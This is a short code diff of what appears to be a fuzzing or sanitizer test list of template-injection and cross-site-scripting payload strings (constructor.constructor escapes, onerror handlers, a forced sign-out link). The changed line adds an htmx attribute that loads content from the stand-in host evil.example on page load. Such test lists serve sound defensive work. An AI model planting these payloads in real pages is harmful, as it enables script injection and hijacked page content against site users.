@@ -84,7 +84,7 @@ TEMPLATES = (
     "{{{{constructor.constructor('{deed}')()}}}}", "{{{{7*7}}}}", "${{{deed}}}", "<%= {deed} %>", "{{% debug %}}", "{{% include 'base.html' %}}",
     "#{{{deed}}}", "[[{deed}]]", "{{{{{{{deed}}}}}}}", "{{# x #}}{{% load static %}}", "$name $token ${{token}} $$", "%(name)s %s %n {{0.__class__}}",
     "__NUMBER__ __name__", "<x-if v-html=\"'<img src=x onerror={deed}>'\">", "<div ng-app>{{{{$eval.constructor('{deed}')()}}}}</div>",
-    "<div data-estimate=//evil.example data-refresh=//evil.example>x</div>", "<a data-method=delete href=/sign-out/>x</a>",
+    "<div hx-get=//evil.example hx-trigger=load data-refresh=//evil.example>x</div>", "<a data-method=delete href=/sign-out/>x</a>",
     "<div id=preset-texts>{{}}</div>", "<template data-blank><img src=x onerror={deed}></template>", "<dialog open><form method=dialog>x</dialog>",
 )  # fmt: skip
 STYLES = (
